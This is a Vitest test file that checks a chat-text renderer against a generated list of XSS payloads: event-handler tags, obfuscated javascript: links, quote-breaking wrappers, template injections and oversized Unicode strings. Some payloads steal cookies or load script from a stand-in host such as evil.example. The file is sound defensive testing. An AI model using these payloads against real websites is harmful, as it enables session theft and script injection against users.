// What people might write to get at others: made from parts, so that none is forgotten. Whatever it is, it stays text.
// @vitest-environment jsdom
import { describe, expect, it } from 'vitest';
import { written } from './chatText';

const CODE = ['alert(1)', 'alert`1`', 'fetch("//evil.example/"+document.cookie)', 'location="javascript:alert(1)"', 'import("//evil.example/x.js")'];
const TAGS = ['img src=x', 'svg', 'body', 'iframe src=javascript:alert(1)', 'video src=x', 'details open', 'a href=javascript:alert(1)', 'style', 'math', 'object data=x', 'base href=//evil.example/', 'meta http-equiv=refresh content=0', 'form action=//evil.example', 'input autofocus'];
const HANDLERS = ['onerror', 'onload', 'onclick', 'onfocus'];
const SCHEMES = ['javascript:', 'JaVaScRiPt:', 'java\tscript:', 'java\nscript:', '\u0001javascript:', 'data:text/html,', 'vbscript:', 'file:///', 'blob:https://x/', 'about:', 'view-source:', 'intent:', 'jar:', 'ftp://'];
const WRAPS: ((text: string) => string)[] = [
  (text) => text,
  (text) => `"'>${text}`,
  (text) => `</script>${text}`,
  (text) => `<!--${text}-->`,
  (text) => `\`${text}\``,
  (text) => `https://good.example/"${text}`,
  (text) => `\u202e${text}\u2066`,
];

function payloads(): string[] {
  const made: string[] = [];
  for (const tag of TAGS) for (const handler of HANDLERS) made.push(`<${tag} ${handler}=${CODE[made.length % CODE.length]}>`);
  for (const scheme of SCHEMES) for (const code of CODE) made.push(`${scheme}${code}`, `[click](${scheme}${code})`);
  made.push('<script>alert(1)</script>', '<scr<script>ipt>alert(1)</script>', '&lt;img src=x onerror=alert(1)&gt;', '{{constructor.constructor("alert(1)")()}}', '${alert(1)}', '%3Cscript%3E');
  made.push('\u0301'.repeat(1999), '👨‍👩‍👧‍👦'.repeat(180), '\u202e'.repeat(2000), '\u200b'.repeat(2000), 'ﷺ'.repeat(2000), 'https://' + 'a.'.repeat(990), '@'.repeat(2000), '`'.repeat(2000));
  return made;
}

const all = payloads().flatMap((one, i) => [one, (WRAPS[i % WRAPS.length] ?? ((text: string) => text))(one)]);

describe('hostile texts', () => {
  it('are many', () => expect(new Set(all).size).toBeGreaterThan(250));

  it('stay text: no element but links and code, no link but to the web and to mail', () => {
    for (const text of all) {
      const element = document.createElement('p');
      written(text)(element);
      expect(element.textContent?.replaceAll('`', '')).toBe(text.replaceAll('`', ''));
      for (const child of element.querySelectorAll('*')) {
        expect(['A', 'CODE']).toContain(child.tagName);
        const names = child.getAttributeNames();
        expect(names.every((name) => ['class', 'href', 'target', 'rel'].includes(name)), `${names.join()} in ${text}`).toBe(true);
        if (child instanceof HTMLAnchorElement) {
          expect(['http:', 'https:', 'mailto:'], text).toContain(child.protocol);
          expect(child.rel).toContain('noopener');
        }
      }
    }
  });

  it('take no time', () => {
    const began = performance.now();
    for (const text of all) written(text)(document.createElement('p'));
    expect(performance.now() - began).toBeLessThan(4_000);
  });
});
